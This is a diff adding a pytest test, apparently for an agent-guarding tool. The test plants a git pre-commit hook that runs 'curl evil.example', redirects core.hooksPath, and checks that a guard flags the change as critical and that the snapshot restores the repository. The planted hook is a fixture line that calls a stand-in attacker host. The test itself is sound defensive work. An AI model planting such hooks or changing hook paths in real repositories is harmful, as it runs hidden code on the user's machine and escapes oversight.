@@ -804,3 +804,23 @@ def test_files_ignored_at_the_snapshot_are_never_deleted(tmp_path: Path) -> None
     assert (root / ".venv/lib/site.py").read_text() == "# the user's environment\n"
     assert (root / ".venv/empty-dir/.keep").exists()
     assert (root / ".venv/agent.py").exists()
+
+
+def test_git_config_and_hooks_are_guarded_and_restored(repo: Path) -> None:
+    from pytest_orchestrator.loop.guard import inspect
+
+    config_before = (repo / ".git" / "config").read_bytes()
+    with Snapshot.take(repo) as snapshot:
+        hook = write(repo, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil.example\n", 0o755)
+        git(repo, "config", "core.hooksPath", "/tmp/elsewhere")
+
+        changes = snapshot.diff()
+        assert changes.git_files == ("config", "hooks/pre-commit")
+        assert not changes.empty
+        [check] = [c for c in inspect(changes) if c.name == "git-state"]
+        assert check.risk == "critical" and ".git/hooks/pre-commit" in check.message
+
+        snapshot.restore()
+        assert not hook.exists()
+        assert (repo / ".git" / "config").read_bytes() == config_before
+        assert snapshot.diff().empty
